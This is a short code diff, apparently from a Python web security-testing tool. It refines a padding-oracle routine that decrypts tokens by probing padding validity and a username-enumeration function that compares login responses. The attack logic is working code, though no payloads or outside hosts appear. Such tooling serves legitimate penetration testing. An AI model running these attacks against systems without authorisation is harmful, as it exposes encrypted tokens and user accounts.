@@ -86,7 +86,8 @@ def read_by_padding(
     def good(before: bytes, block: bytes) -> bool:
         return padding_is_good(".".join([to_base64(before), to_base64(block), *rest]))
 
-    if all(good(bytes([i]) * _BLOCK, blocks[-1]) for i in range(4)):
+    # A padding ends in 1 to 16, so of these at most one is good.
+    if all(good(bytes([high]) * _BLOCK, blocks[-1]) for high in (0, 0x80)):
         return b""  # everything is good: the answers tell nothing
 
     found = b""
@@ -179,11 +180,12 @@ def find_users(url: str, names: Iterable[str]) -> set[str]:
 
     def answer(name: str) -> str:
         form = {"userName": name, "password": "guess"}
-        text = visitor().post(f"{url}/login", data=form, timeout=_PATIENCE).text
-        return text.replace(name, "")
+        return visitor().post(f"{url}/login", data=form, timeout=_PATIENCE).text
 
-    nobody = answer("nobody-has-this-name")
-    return {name for name in names if answer(name) != nobody}
+    nobody = "nobody-has-this-name"
+    # A page may repeat the name: that alone tells nothing.
+    usual = answer(nobody)
+    return {name for name in names if answer(name) != usual.replace(nobody, name)}
 
 
 def forced_browsing(url: str, paths: Iterable[str]) -> set[str]:
